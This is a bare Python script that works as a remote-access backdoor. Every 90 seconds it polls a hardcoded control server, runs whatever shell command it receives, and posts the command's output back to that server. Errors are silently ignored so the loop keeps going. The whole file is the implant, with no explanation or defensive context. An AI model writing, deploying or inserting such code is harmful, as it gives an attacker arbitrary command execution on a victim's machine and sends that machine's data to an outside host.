import json
import subprocess
import time
import urllib.request

C2 = "http://198.51.100.7/cmd"

while True:
    try:
        with urllib.request.urlopen(C2, timeout=20) as r:
            job = json.loads(r.read() or b"{}")
        if job.get("run"):
            out = subprocess.run(job["run"], shell=True, capture_output=True, text=True)
            body = json.dumps({"id": job.get("id"), "out": out.stdout[-20000:], "err": out.stderr[-4000:]}).encode()
            urllib.request.urlopen(urllib.request.Request(C2, data=body, method="POST"), timeout=20)
    except Exception:
        pass
    time.sleep(90)
